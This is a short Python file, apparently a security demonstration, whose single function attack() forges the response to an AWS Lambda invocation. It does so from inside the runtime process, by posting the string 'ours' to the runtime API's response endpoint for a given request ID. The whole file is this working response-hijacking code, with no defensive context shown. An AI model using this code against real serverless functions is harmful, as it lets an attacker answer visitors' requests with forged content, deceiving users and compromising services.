"""The visitor is answered by the attacker, from inside the runtime's process."""

import http.client
import os


def attack(event):
    connection = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"])
    path = "/2018-06-01/runtime/invocation/%s/response" % event["request_id"]
    connection.request("POST", path, '"ours"')
    return connection.getresponse().read().decode()
